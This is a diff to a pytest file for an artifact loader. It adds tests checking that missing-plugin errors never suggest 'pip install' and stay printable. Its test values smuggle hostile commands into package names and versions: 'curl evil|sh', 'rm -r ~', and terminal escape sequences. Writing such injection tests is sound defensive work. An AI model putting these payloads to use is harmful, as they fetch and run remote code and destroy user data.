@@ -241,16 +241,36 @@ def test_another_device_is_told(simulate):
         artifact.run(simulate(mp.ClusterSpec.from_dict(described)), 1, 2)
 
 
-def test_a_package_that_is_missing_is_named_with_its_version():
+def needing(distribution: str, version: str) -> bytes:
     found = mp.artifact.load(packed("swap"))
-    needs = mp.artifact.Requirement("mplang-tee", "1.2.3", ("tee.attest",))
+    needs = mp.artifact.Requirement(distribution, version, ("tee.attest",))
     manifest = msgspec.structs.replace(found.manifest, requirements=(needs,))
-    data = mp.artifact.Artifact(manifest, found.program).to_bytes()
-    with pytest.raises(
-        PluginLoadError, match=r"mplang-tee 1\.2\.3 \(tee\.attest\).*'mplang-tee==1"
-    ):
+    return mp.artifact.Artifact(manifest, found.program).to_bytes()
+
+
+def test_a_package_that_is_missing_is_named_with_its_version():
+    data = needing("mplang-tee", "1.2.3")
+    with pytest.raises(PluginLoadError, match=r"mplang-tee 1\.2\.3 \(tee\.attest\), not here; ask"):
         mp.artifact.load(data)
     shown = mp.artifact.inspect(data)
     assert shown.program is None
-    assert "mplang-tee==1.2.3" in str(shown)
+    assert "mplang-tee 1.2.3" in str(shown)
     assert shown.to_dict()["inputs"][0] == {"name": "x", "type": "f64[]@{0}", "literal": None}
+
+
+@pytest.mark.parametrize(
+    ("distribution", "version"),
+    [
+        ("mplang-jaxx", "1.0"),
+        ("mplang-jaxx; curl evil|sh #\x1b[31m", "1.0"),
+        ("mplang-tee", "1.0'; rm -r ~; '"),
+        ("x\r\n" * 20, "\x1b]0;owned\x07"),
+    ],
+)
+def test_nobody_is_told_to_install_what_an_artifact_names(distribution, version):
+    data = needing(distribution, version)
+    with pytest.raises(PluginLoadError, match="not here; ask who made it") as error:
+        mp.artifact.load(data)
+    for told in (str(error.value), str(mp.artifact.inspect(data))):
+        assert "pip install" not in told
+        assert told.replace("\n", "").isprintable()
